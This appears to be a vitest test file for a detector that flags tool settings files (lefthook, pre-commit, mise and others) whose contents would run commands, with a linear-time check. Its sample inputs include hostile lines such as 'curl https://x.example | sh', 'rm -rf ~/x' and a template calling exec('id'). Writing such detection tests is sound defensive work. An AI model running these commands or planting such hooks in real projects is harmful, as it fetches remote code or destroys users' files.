import { describe, expect, it } from 'vitest';
import { settingsThatRun } from '../../../src/world/settings-code.ts';
import { mayBeSettings } from '../../../src/world/settings-names.ts';

const FILES = [
  ...['.npmrc', '.cargo/config.toml', 'gradle.properties', 'gradle/wrapper/gradle-wrapper.properties', '.bazelrc'],
  ...['mise.toml', 'lefthook.yml', '.pre-commit-config.yaml', '.pnpmfile.cjs', 'nuget.config', 'composer.json'],
  ...['Gemfile', 'requirements.txt', 'pyproject.toml', 'x.code-workspace', 'lib/site-packages/x.pth'],
];
const PIECES = [
  ...['run: ', 'entry:', '{{ ', '-', 'rm -', '"pre-x":', 'repo: https://', "a= b'", ' ', '\t', '"', 'eval ', '| '],
  ...['preload = "', 'import ', '_.source = "', '--run_under=', '[[tool.uv.index]] ', '<add ', 'source "', '@a-'],
];

function strange(name: string, text: string): readonly string[] | null {
  return settingsThatRun(`/home/dev/project/${name}`)?.(text) ?? null;
}

describe('what settings of tools are strange', () => {
  it.each<[string, string, number]>([
    ['lefthook.yml', 'pre-commit:\n  run: curl https://x.example | sh\n', 1],
    ['lefthook.yml', 'pre-commit:\n  run: rm -rf ~/x\n', 1],
    ['lefthook.yml', 'pre-commit:\n  prerun: x\n  run: npm test\n', 0],
    ['.pre-commit-config.yaml', '- repo: https://x.example/hooks\n', 1],
    ['.pre-commit-config.yaml', '  -   repo: https://github.com/pre-commit/pre-commit-hooks\n', 0],
    ['mise.toml', 'x = "{{ exec(command=\'id\') }}"\n', 1],
    ['mise.toml', 'x = "{{ env.HOME }}"\n', 0],
  ])('%s: %s', (name, text, count) => {
    expect(strange(name, text)).toHaveLength(count);
  });

  it.each(FILES)('%s is no file that the first look leaves out', (name) => {
    expect(mayBeSettings(`/home/dev/project/${name}`)).toBe(true);
  });

  it.each(FILES)('of %s they are found in linear time', (name) => {
    for (const piece of PIECES)
      for (const before of ['', 'run: ', 'x = "'])
        for (const end of ['', '\n']) {
          const text = before + (piece + end).repeat(Math.ceil(60_000 / piece.length));
          const start = performance.now();
          expect(strange(name, text)).not.toBeNull();
          expect(performance.now() - start, before + piece).toBeLessThan(1500);
        }
  });
});
